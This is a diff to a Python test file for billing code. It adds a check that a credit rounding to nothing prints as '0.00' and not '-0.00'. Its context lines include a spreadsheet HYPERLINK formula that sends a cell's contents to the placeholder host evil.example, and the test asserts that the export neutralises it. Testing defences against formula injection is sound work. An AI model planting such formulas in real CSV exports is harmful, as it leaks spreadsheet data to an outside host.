@@ -312,3 +312,12 @@ def test_csv_text_that_excel_would_run_as_a_formula_is_quoted_and_money_is_not()
     assert row["customer"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")'
     assert (row["external_id"], row["licence"], row["currency"]) == ("'@SUM(1)", "'+Basic", "'-EUR")
     assert (row["quantity"], row["amount"], row["vendor"]) == ("-5", "-28.00", "also")
+
+
+def test_a_credit_that_rounds_to_nothing_is_zero_not_minus_zero() -> None:
+    from core.billing_charges import money_text, prorate
+
+    # -1 x 0.01 x 1/31 = -0.0003: an accountant's CSV showed "-0.00".
+    assert money_text(prorate(-1, Decimal("0.01"), 1, 31)) == "0.00"
+    assert money_text(prorate(-3, Decimal("0.15"), 1, 90)) == "-0.01"  # -0.005 rounds half away from zero
+    assert money_text(prorate(3, Decimal("0.15"), 1, 90)) == "0.01"
